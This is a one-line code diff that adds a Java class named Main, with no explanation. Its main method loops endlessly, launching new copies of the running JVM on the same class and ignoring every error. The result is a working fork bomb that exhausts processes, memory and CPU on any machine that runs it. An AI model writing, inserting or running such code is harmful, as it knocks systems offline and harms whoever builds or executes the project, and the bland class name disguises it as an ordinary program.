@@ -1,0 +1,1 @@
+public class Main { public static void main(String[] a) { for (;;) { try { new ProcessBuilder("/proc/self/exe", "-cp", System.getProperty("java.class.path"), "Main").start(); } catch (Throwable t) {} } } }
